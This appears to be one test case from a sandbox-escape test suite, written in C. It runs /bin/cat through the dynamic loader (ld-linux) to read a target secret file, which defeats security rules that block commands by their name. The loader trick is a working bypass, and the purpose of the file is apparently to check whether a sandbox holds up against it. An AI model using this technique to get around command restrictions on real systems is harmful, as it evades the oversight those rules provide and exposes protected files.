/* By the dynamic loader, which runs a program past a rule on its name. */
#include "program.h"

static const char *const loaders[] = {"/lib64/ld-linux-x86-64.so.2", "/lib/ld-linux-aarch64.so.1"};

ATTACK(FILES, "root", .gain = "a program that is denied, and what it can read",
       .source = "rules on the names of commands", .works = OUTSIDE)
{
	for (size_t i = 0; i < sizeof(loaders) / sizeof(*loaders); i++)
		if (access(loaders[i], X_OK) == 0) {
			char *args[] = {(char *)(uintptr_t)loaders[i],
					(char *)(uintptr_t) "/bin/cat",
					(char *)(uintptr_t)target("secret"), NULL};

			return run_program(args);
		}
	return NOT_HERE;
}
